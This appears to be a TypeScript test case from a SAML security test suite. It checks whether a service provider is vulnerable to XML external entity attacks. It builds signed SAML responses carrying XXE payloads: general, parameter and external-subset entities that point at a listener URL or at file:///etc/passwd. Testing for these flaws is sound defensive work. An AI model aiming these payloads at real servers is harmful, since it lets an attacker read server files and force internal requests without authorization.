import type { CatalogueCase, Observation, PlayedRun } from '../case.ts';
import { observe } from '../observe.ts';
import type { ResponseSpec } from '../response-spec.ts';
import { statusXml } from '../saml-elements.ts';
import { assertShown } from '../shown.ts';
import { signedAssertion } from '../sign-xml.ts';
import type { Stage } from '../stage.ts';
import { insertLast, replaceElement } from '../xml-text.ts';
import { anyDoctype, doctype, xmlDoctype } from './doctype.ts';

/** In a StatusMessage, outside the signed Assertion: the rest of the message is valid. */
function withStatusMessage(honest: ResponseSpec, declaration: string, message: string): string {
  const text = `<samlp:StatusMessage>${message}</samlp:StatusMessage>`;
  const status = insertLast(statusXml(), 'Status', text);
  return declaration + replaceElement(signedAssertion(honest), 'Status', status);
}

const generalEntity = (honest: ResponseSpec, url: string) =>
  withStatusMessage(honest, doctype(`<!ENTITY outside SYSTEM "${url}">`), '&outside;');

const externalSubset = (honest: ResponseSpec, url: string) =>
  withStatusMessage(honest, `<!DOCTYPE samlp:Response SYSTEM "${url}">`, 'none');

const parameterEntity = (honest: ResponseSpec, url: string) =>
  withStatusMessage(honest, doctype(`<!ENTITY % outside SYSTEM "${url}"> %outside;`), 'none');

type Build = (honest: ResponseSpec, url: string) => string;

const watched = (title: string, build: Build): PlayedRun => ({
  title,
  check: 'doctype',
  play: async (stage) => {
    const { url, hits } = await stage.listener();
    const { seen } = await post(stage, build, `${url}/entity.txt`);
    if (hits() > 0)
      return { ...seen, outcome: 'harm', note: 'The service provider fetched the entity.' };
    await assertShown(stage, { withoutTrick: anyDoctype }, 'reject', seen.outcome);
    return {
      ...seen,
      note: `${seen.note} Nothing fetched it.`,
      milder: {
        severity: 'med',
        risk: xmlDoctype.risk,
        reason: 'The DOCTYPE was accepted; nothing was fetched.',
      },
    };
  },
});

async function post(stage: Stage, build: Build, url: string) {
  const agent = await stage.newUserAgent();
  const honest = await agent.begin();
  const answer = await agent.post(honest, { xml: build(honest, url) });
  const seen = await observe(agent, answer, `An entity names ${url}.`);
  return { answer, seen };
}

/**
 * /etc/passwd exists on every Unix, and its first line is known. /bin/sh is no XML: a parser that reads it refuses the message, and one that reads
 * no files accepts both. On systems without these files the run finds less.
 */
async function file(stage: Stage): Promise<Observation> {
  const { answer, seen } = await post(stage, generalEntity, 'file:///etc/passwd');
  if (/root:[^\n]*:0:0:/.test(answer.body))
    return { ...seen, outcome: 'harm', note: 'The response shows a file of the server.' };
  const note = `${seen.note} The response does not show the file.`;
  if (seen.outcome === 'none') return { ...seen, note };
  const program = await post(stage, generalEntity, 'file:///bin/sh');
  if (program.seen.outcome === 'none')
    return {
      ...seen,
      note: `${note} The same message with file:///bin/sh was refused.`,
      milder: {
        severity: 'high',
        risk: 'Anyone, even without an account, can make the server read its files. This response does not show them, but an error message or a request may.',
        reason:
          'The server reads files that an entity names: it accepted one that is text, and refused one that is no XML.',
      },
    };
  await assertShown(stage, { withoutTrick: anyDoctype }, 'reject', seen.outcome);
  return {
    ...seen,
    note: `${note} The same message with file:///bin/sh was accepted too.`,
    milder: {
      severity: 'med',
      risk: xmlDoctype.risk,
      reason: 'The DOCTYPE was accepted; no file was read.',
    },
  };
}

export const xmlExternalEntity: CatalogueCase = {
  id: 'xml-external-entity',
  group: 'xml',
  title: 'An external entity',
  severity: 'crit',
  verdict: 'reject',
  basis: ['CVE-2016-10127 class', 'Kantara IIP-G03', 'SAML2int SDP-G03'],
  risk: 'Anyone, even without an account, can read files of the server and make it send requests into its own network.',
  fix: 'Refuse any DOCTYPE before parsing, and give the parser no access to network or files.',
  runs: [
    watched('general entity, http', generalEntity),
    watched('external subset, http', externalSubset),
    watched('parameter entity, http', parameterEntity),
    { title: 'general entity, file', check: 'doctype', play: file },
  ],
};
